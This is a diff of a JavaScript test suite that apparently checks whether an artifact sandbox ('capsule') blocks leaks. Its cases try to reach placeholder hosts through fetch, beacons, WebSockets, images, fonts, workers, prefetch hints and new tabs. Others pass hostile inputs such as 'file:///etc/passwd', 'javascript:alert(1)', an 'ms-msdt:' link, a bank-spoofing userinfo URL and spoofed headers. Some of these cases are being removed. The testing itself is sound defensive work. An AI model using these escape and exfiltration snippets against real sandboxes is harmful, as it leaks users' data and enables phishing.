@@ -18,20 +18,12 @@ export const sixFlags = family(
       `fetch('%H%/x').catch(() => {}); fetch('https://%D%/x', { mode: 'no-cors' }).then(() => got('asked by itself')).catch(() => {})`,
     ),
     XMLHttpRequest: leaks(`const x = new XMLHttpRequest(); x.open('GET', '%H%/x'); x.send()`),
-    beacon: leaks(`navigator.sendBeacon('%H%/x', 'secret')`),
     WebSocket: leaks(`new WebSocket('%W%/x')`),
-    EventSource: leaks(`new EventSource('%H%/x')`),
     'picture, sound and video': leaks(
       `document.body.insertAdjacentHTML('beforeend', '<img src="%H%/x.png"><audio src="%H%/x.mp3" preload="auto"></audio><video poster="%H%/p.png" src="%H%/x.mp4" preload="auto"></video>')`,
     ),
-    'a picture set of another host': leaks(
-      `document.body.insertAdjacentHTML('beforeend', '<picture><source srcset="%H%/x.png"><img srcset="%H%/y.png 1x"></picture><input type="image" src="%H%/z.png">')`,
-    ),
     'style and font': leaks(
       `document.head.insertAdjacentHTML('beforeend', '<style>@import url(%H%/x.css); @font-face { font-family: x; src: url(%H%/x.woff2) } body { font-family: x; background: url(%H%/x.png) }</style>'); document.body.append('a')`,
-    ),
-    'script and module': leaks(
-      `const s = document.createElement('script'); s.src = '%H%/x.js'; document.head.append(s); import('%H%/y.js').catch(() => {})`,
     ),
     worker: leaks(
       `try { new Worker(URL.createObjectURL(new Blob(["fetch('%H%/x')"]))) } catch {} new Image().src = '%H%/y'`,
@@ -48,26 +40,9 @@ export const sixFlags = family(
       expected: 'contained',
       wait: 2_200,
     },
-    'a form': {
-      ...leaks(
-        `const f = document.createElement('form'); f.action = '%H%/x.html'; document.body.append(f); setTimeout(() => f.submit(), 300)`,
-      ),
-      expected: 'contained',
-      wait: 2_200,
-    },
-    'a frame of a declared host': {
-      html: '<iframe src="https://%D%/x.html"></iframe>',
-      javascript: `new Image().src = '%H%/y'`,
-      expected: 'contained',
-      control: true,
-    },
     'hints and rules': leaks(
       `document.head.insertAdjacentHTML('beforeend', '<link rel="prefetch" href="%H%/x"><link rel="preload" as="image" href="%H%/y.png"><link rel="modulepreload" href="%H%/z.js">')`,
     ),
-    'a new tab': {
-      ...leaks(`setTimeout(() => open('%H%/x.html'), 200); new Image().src = '%H%/y'`),
-      expected: 'contained',
-    },
     'a new tab on a click': {
       ...leaks(`addEventListener('click', () => open('%H%/x.html'))`),
       press: 'left',
@@ -85,14 +60,10 @@ export const sixFlags = family(
       'camera, screen and position': `attempt(async () => { await navigator.mediaDevices.getUserMedia({ video: true }); return 'camera' }); attempt(() => new Promise((y, n) => navigator.geolocation.getCurrentPosition(() => y('position'), n)))`,
       'a request to another host': asked('answered', `capsule.fetch('https://%N%/x')`),
       'a picture of another host': asked('answered', `capsule.media('https://%N%/x.svg')`),
-      'a page as a picture': asked('answered', `capsule.media('https://%D%/x.html')`),
       'a payment to another host': asked('opened', `capsule.pay('https://%N%/x')`),
-      'a payment without encryption': asked('opened', `capsule.pay('http://%D%/x')`),
       'a link to a script': asked('opened', `capsule.openLink('javascript:alert(1)')`),
       'a link with a user name': asked('opened', `capsule.openLink('https://bank.example@%N%/x')`),
-      'a link to a file': asked('opened', `capsule.openLink('file:///etc/passwd')`),
       'a link to a program': asked('opened', `capsule.openLink('ms-msdt:/id')`),
-      'a model with an empty text': asked('answered', `capsule.ai('')`),
       'a model with a far too long text': asked('answered', `capsule.ai('x'.repeat(70000))`),
       'capabilities of artifacts': `attempt(async () => { await capsule.saveFile({ name: 'x', data: 'x' }); return 'saved' }); attempt(async () => { await capsule.emailSelf({ subject: 's', text: 't' }); return 'mailed' })`,
       'flags that do not exist': onPort(
@@ -109,16 +80,8 @@ export const sixFlags = family(
         'answered',
         `capsule.fetch('https://%D%/redirect?https%3A%2F%2F%N%%2Fx')`,
       ),
-      'headers that name another host': asked(
-        'answered',
-        `capsule.fetch('https://%D%/x', { headers: { Host: '%N%', Cookie: 'a=b', Origin: '%H%', 'X-Forwarded-Host': '%N%' } })`,
-      ),
       'a request with credentials': `attempt(async () => { const r = await capsule.fetch('https://%D%/x', { credentials: 'include', mode: 'no-cors', redirect: 'follow', referrer: '%V%' }); return (await r.text()) !== 'x' && 'another answer' })`,
     }),
-    'many questions at once': {
-      javascript: `for (let i = 0; i < 10; i++) { capsule.openLink('https://example.com/' + i).catch(() => {}); capsule.pay('https://%D%/' + i).catch(() => {}) }`,
-      expected: 'asks',
-    },
     'more questions than anyone reads': {
       javascript: `setInterval(() => { for (let i = 0; i < 30; i++) capsule.openLink('https://example.com/' + i).catch(() => {}) }, 200)`,
       expected: 'flood',
